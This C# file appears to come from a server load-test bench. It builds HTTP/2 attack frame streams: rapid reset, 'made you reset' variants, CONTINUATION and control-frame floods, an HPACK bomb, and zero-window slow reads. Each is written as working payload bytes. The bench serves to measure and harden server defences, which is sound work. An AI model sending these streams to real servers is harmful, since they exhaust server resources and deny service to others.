using static Atlas.Bench.Load.Attacks.FrameWriter;

namespace Atlas.Bench.Load.Attacks;

/// <summary>The attacks in the order of the table. What each is bounded by shows what it costs who does not cut it.</summary>
internal static class AllAttacks
{
    private const int Many = 10_000;
    private const int Streams = 100;
    private const int HoldMs = 1_000;

    // SETTINGS_INITIAL_WINDOW_SIZE, and the largest window (RFC 9113 6.5.2, 6.9.1).
    private const ushort InitialWindow = 4;
    private const uint LargestWindow = int.MaxValue;

    // A field of 4,000 bytes that stays in the table, and references to it of one byte each.
    private const int BombFieldBytes = 4_000;
    private const int BombReferences = 12_000;

    internal static IReadOnlyList<Attack> List { get; } =
    [
        new("rapid reset", Repeated((w, id) => w.Frame(Headers, EndStream | EndHeaders, id, SmallGet).Reset(id), Many)),
        new("rapid reset, frame by frame", Repeated((w, id) => w.Frame(Headers, EndStream | EndHeaders, id, SmallGet).Reset(id), 1_000)) { ChunkBytes = 13 },
        new("made you reset: WINDOW_UPDATE of 0", Repeated((w, id) => w.Frame(Headers, EndHeaders, id, Put).Frame(WindowUpdate, id, 0), Many)),
        new(
            "made you reset: window too large",
            Repeated((w, id) => w.Frame(Headers, EndHeaders, id, Put).Frame(WindowUpdate, id, LargestWindow), Many)),
        new(
            "made you reset: DATA after the end",
            Repeated((w, id) => w.Frame(Headers, EndStream | EndHeaders, id, SmallGet).Frame(Data, 0, id, "x"u8), Many)),
        new("made you reset: PRIORITY too short", Repeated((w, id) => w.Frame(Headers, EndHeaders, id, Put).Frame(Priority, 0, id, [0, 0, 0, 0]), Many)),
        new("CONTINUATION", OnOneStream(w => w.Frame(Headers, EndStream, 1, SmallGet), w => w.Frame(Continuation, 0, 1, Field(1_000)), Many)),
        new("empty CONTINUATION", OnOneStream(w => w.Frame(Headers, EndStream, 1, SmallGet), w => w.Frame(Continuation, 0, 1, []), Many)),
        new("PING", OnOneStream(_ => { }, w => w.Frame(Ping, 0, 0, "12345678"u8), Many)),
        new("SETTINGS", OnOneStream(_ => { }, w => w.Frame(Settings, 0, 0, []), Many)),
        new("empty DATA", OnOneStream(w => w.Frame(Headers, EndHeaders, 1, Put), w => w.Frame(Data, 0, 1, []), Many)),
        new("WINDOW_UPDATE of 0", OnOneStream(_ => { }, w => w.Frame(WindowUpdate, 0, 0), Many)),
        new("WINDOW_UPDATE of 1", OnOneStream(_ => { }, w => w.Frame(WindowUpdate, 0, 1), Many)),
        new("PRIORITY", OnOneStream(_ => { }, w => w.Frame(Priority, 0, 1, [0, 0, 0, 3, 16]), Many)),
        new("HPACK bomb", Bomb()),
        new("window of 0, responses of 10 MiB", Asked(0)) { HoldMs = HoldMs },
        new("responses of 10 MiB not read", Asked(LargestWindow)) { Reads = false, HoldMs = HoldMs },
    ];

    private static byte[] Repeated(Action<FrameWriter, int> write, int streams)
    {
        FrameWriter writer = new FrameWriter().Frame(Settings, 0, 0, []);
        for (int i = 0; i < streams; i++)
        {
            write(writer, (2 * i) + 1);
        }

        return writer.ToArray();
    }

    private static byte[] OnOneStream(Action<FrameWriter> begin, Action<FrameWriter> write, int frames)
    {
        FrameWriter writer = new FrameWriter().Frame(Settings, 0, 0, []);
        begin(writer);
        for (int i = 0; i < frames; i++)
        {
            write(writer);
        }

        return writer.ToArray();
    }

    private static byte[] Asked(uint window)
    {
        FrameWriter writer = new FrameWriter().Setting(InitialWindow, window).Frame(WindowUpdate, 0, LargestWindow - 65_535);
        for (int i = 0; i < Streams; i++)
        {
            writer.Frame(Headers, EndStream | EndHeaders, (2 * i) + 1, LargeGet);
        }

        return writer.ToArray();
    }

    private static byte[] Bomb()
    {
        FrameWriter writer = new FrameWriter().Frame(Settings, 0, 0, []);
        byte[] references = new byte[BombReferences];
        references.AsSpan().Fill(0x80 | 62);
        writer.Frame(Headers, EndStream | EndHeaders, 1, [.. SmallGet, .. IndexedField(BombFieldBytes)]);
        for (int i = 1; i < Many / 10; i++)
        {
            writer.Frame(Headers, EndStream | EndHeaders, (2 * i) + 1, [.. SmallGet, .. references]);
        }

        return writer.ToArray();
    }

    // Literals with a name of one byte; lengths of three bytes (RFC 7541 5.1: 127, and the rest in groups of seven bits).
    private static byte[] Field(int bytes) => Literal(0x00, bytes);

    private static byte[] IndexedField(int bytes) => Literal(0x40, bytes);

    private static byte[] Literal(byte kind, int bytes)
    {
        byte[] value = new byte[bytes];
        value.AsSpan().Fill((byte)'v');
        int rest = bytes - 127;
        return [kind, 1, (byte)'x', 127, (byte)(0x80 | (rest & 0x7F)), (byte)(rest >> 7), .. value];
    }
}
